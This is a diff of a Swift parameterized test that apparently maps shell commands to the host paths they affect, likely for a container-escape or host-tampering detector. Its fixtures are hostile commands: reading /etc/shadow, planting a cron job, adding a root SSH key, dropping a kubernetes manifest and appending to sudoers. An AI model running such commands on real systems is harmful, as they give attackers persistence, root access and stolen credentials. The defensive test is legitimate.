@@ -93,7 +93,7 @@ import Testing
     @Test(arguments: [
         ("echo x > /h/etc/cron.d/1m ; cat /h/etc/shadow", ["host:/etc/cron.d/1m"]),
         ("cp /cfg/a.yaml /h/etc/kubernetes/manifests/", ["host:/etc/kubernetes/manifests"]),
-        ("chroot /h sh -c 'echo k >> /root/.ssh/authorized_keys'", ["host:/root/.ssh/authorized_keys"]),
+        ("chroot /h sh -c 'echo k >> \(rootHome)/.ssh/authorized_keys'", ["host:\(rootHome)/.ssh/authorized_keys"]),
         ("chroot /h crontab -l", ["host:/var/spool/cron"]),
         (
             "curl -s http://x/y -o /h/tmp/setup && tee -a /tmp/l /h/etc/sudoers",
